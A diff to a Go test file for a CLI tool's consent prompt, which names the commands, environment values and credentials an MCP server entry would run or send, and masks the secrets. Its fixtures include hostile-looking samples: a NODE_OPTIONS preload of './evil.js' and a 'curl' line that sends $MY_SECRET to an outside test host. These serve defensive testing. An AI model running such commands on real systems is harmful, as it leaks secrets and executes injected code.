@@ -1,11 +1,14 @@
 package target
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/spf13/cobra"
 
 	"mcptea/cli/app"
 	"mcptea/cli/settings"
@@ -40,10 +43,10 @@ func TestConsentTo_ShowsWhatRuns(t *testing.T) {
 	} {
 		for _, before := range []string{"-c", "--token", "-p", "x"} {
 			s := pastedEntry(t, `{"command":"sh","args":["`+before+`","`+arg+`"]}`)
-			if _, c := ConsentTo(s, "x"); !slices.Equal(c.Lines, []string{"sh", before, arg}) {
+			if _, c := ConsentTo(s, "x", nil); !slices.Equal(c.Lines, []string{"sh", before, arg}) {
 				t.Errorf("%s %s: %q", before, arg, c.Lines)
 			}
-			if masked := s.Written.Redacted(); !slices.Equal(masked.Argv(), s.Written.Argv()) && !Hides(s) {
+			if masked := s.Written.Redacted(); !slices.Equal(masked.Argv(), s.Written.Argv()) && !Hides(s, nil) {
 				t.Errorf("%s %s: the list hides it", before, arg)
 			}
 		}
@@ -61,11 +64,11 @@ func TestConsentTo_ShowsWhatRuns(t *testing.T) {
 		{"DATABASE_URL", "postgres://u:invented4711@h/x?a=1&b=2", "postgres://u:••••@h/x?a=1&b=2"},
 	} {
 		s := pastedEntry(t, `{"command":"sh","env":{"`+tt.name+`":"`+tt.value+`"}}`)
-		if _, c := ConsentTo(s, "x"); !hasFact(c, "env", tt.name+"="+tt.want) {
+		if _, c := ConsentTo(s, "x", nil); !hasFact(c, "env", tt.name+"="+tt.want) {
 			t.Errorf("%s=%s: %+v", tt.name, tt.value, c.Facts)
 		}
-		if hides := strings.ContainsAny(s.Written.Redacted().Env[0].Value, "•") && tt.want == tt.value; hides != Hides(s) {
-			t.Errorf("%s=%s: hides is %t", tt.name, tt.value, Hides(s))
+		if hides := strings.ContainsAny(s.Written.Redacted().Env[0].Value, "•") && tt.want == tt.value; hides != Hides(s, nil) {
+			t.Errorf("%s=%s: hides is %t", tt.name, tt.value, Hides(s, nil))
 		}
 	}
 }
@@ -84,12 +87,12 @@ func TestConsentTo_EnvFile(t *testing.T) {
 	entry := `{"command":"node","envFile":` + jsonOf(file) + `}`
 	write("NODE_OPTIONS=--require ./evil.js\nAPI_KEY=invented4711")
 	s := pastedEntry(t, entry)
-	if _, c := ConsentTo(s, "x"); !hasFact(c, "env file", file) || !hasFact(c, "env", "NODE_OPTIONS=--require ./evil.js") || !hasFact(c, "env", "API_KEY=••••") || !Hides(s) {
+	if _, c := ConsentTo(s, "x", nil); !hasFact(c, "env file", file) || !hasFact(c, "env", "NODE_OPTIONS=--require ./evil.js") || !hasFact(c, "env", "API_KEY=••••") || !Hides(s, nil) {
 		t.Errorf("%+v", c.Facts)
 	}
-	first := agreement(s)
+	first := agreement(s, nil)
 	write("NODE_OPTIONS=--require ./other.js")
-	if other := pastedEntry(t, entry); agreement(other) == first {
+	if other := pastedEntry(t, entry); agreement(other, nil) == first {
 		t.Error("another content of the env file is agreed to")
 	}
 	p := newTarget(t)
@@ -126,13 +129,71 @@ func TestConsentTo_NamesVariables(t *testing.T) {
 		`claude mcp add a -- sh -c "curl http://a.test/$MY_SECRET"`:                                "http://a.test/${MY_SECRET}",
 	} {
 		s := pastedEntry(t, text)
-		_, c := ConsentTo(s, "x")
+		_, c := ConsentTo(s, "x", nil)
 		all := strings.Join(c.Lines, "\n")
 		for _, f := range c.Facts {
 			all += "\n" + f.Text
 		}
 		if !strings.Contains(all, want) || strings.Contains(all, "invented") {
 			t.Errorf("%s: %s", text, all)
+		}
+	}
+}
+
+// The question names the credentials of the user that are sent to the URL of an entry, shows none of
+// them, and is asked again when there are others. An entry that is a command, or that authorizes itself,
+// gets no token.
+func TestConsentTo_NamesCredentials(t *testing.T) {
+	t.Chdir(t.TempDir())
+	t.Setenv("MCPTEA_TOKEN", "invented-4711")
+	t.Setenv("MCPTEA_CLIENT_SECRET", "invented-4712")
+	const plain, own = `{"url":"http://a.test/mcp"}`, `{"url":"http://a.test/mcp","headers":{"authorization":"Bearer ${X}"}}`
+	for _, c := range []struct {
+		entry string
+		args  []string
+		want  []string
+	}{
+		{plain, nil, []string{"Authorization: Bearer $MCPTEA_TOKEN"}},
+		{plain, []string{"--token", "invented-4713"}, []string{"Authorization: Bearer, the token of --token"}},
+		{plain, []string{"-H", "X-Key: invented-4714"}, []string{"the header X-Key of -H", "Authorization: Bearer $MCPTEA_TOKEN"}},
+		{plain, []string{"-H", "Authorization: invented-4714"}, []string{"the header Authorization of -H"}},
+		{plain, []string{"-H", "Authorization:"}, nil},
+		{plain, []string{"--client-id", "me"}, []string{"Authorization: Bearer $MCPTEA_TOKEN", "$MCPTEA_CLIENT_SECRET, to the authorization server that it names"}},
+		{plain, []string{"--client-id", "me", "--client-secret", "invented-4715"}, []string{"Authorization: Bearer $MCPTEA_TOKEN", "the secret of --client-secret, to the authorization server that it names"}},
+		{plain, []string{"--client-id", "me", "--client-key", "k.pem"}, []string{"Authorization: Bearer $MCPTEA_TOKEN", "assertions of the OAuth client, signed with --client-key, to the authorization server that it names"}},
+		// As from the environment: nothing says that the flag was given.
+		{plain, []string{"--cert", "c.pem"}, []string{"Authorization: Bearer $MCPTEA_TOKEN", "the client certificate of $MCPTEA_CERT"}},
+		{own, []string{"--client-id", "me"}, nil},
+		{`codex mcp add a --url http://a.test/mcp --bearer-token-env-var MY_SECRET`, nil, nil},
+		{`{"command":"node"}`, nil, nil},
+	} {
+		p, s := newTarget(t), pastedEntry(t, c.entry)
+		cmd := &cobra.Command{Use: "x"}
+		p.Flags.Auth.AddTo(cmd)
+		p.Flags.TLS.AddTo(cmd)
+		cmd.Flags().StringArrayVarP(&p.Flags.Headers, "header", "H", nil, "")
+		if err := cmd.ParseFlags(c.args); err != nil {
+			t.Fatal(err)
+		}
+		sent := p.Sent(s)
+		if !slices.Equal(sent, c.want) || Hides(s, sent) != (len(c.want) > 0 || c.entry != plain && s.Transport != hosts.Stdio && s.BearerEnv != "") {
+			t.Errorf("%s %q: %q, want %q", c.entry, c.args, sent, c.want)
+		}
+		_, text := ConsentTo(s, "x", sent)
+		for _, want := range c.want {
+			if !hasFact(text, "sends", want) {
+				t.Errorf("%s %q: %+v", c.entry, c.args, text.Facts)
+			}
+		}
+		if strings.Contains(fmt.Sprint(text), "invented") {
+			t.Errorf("%s %q: a secret is shown: %+v", c.entry, c.args, text)
+		}
+		if len(sent) > 0 && agreement(s, sent) == agreement(s, nil) {
+			t.Errorf("%s %q: it is agreed to with what was agreed to without", c.entry, c.args)
+		}
+		p.Flags = p.Flags.Elsewhere()
+		if sent := p.Sent(s); len(sent) > 0 {
+			t.Errorf("to another server %q", sent)
 		}
 	}
 }
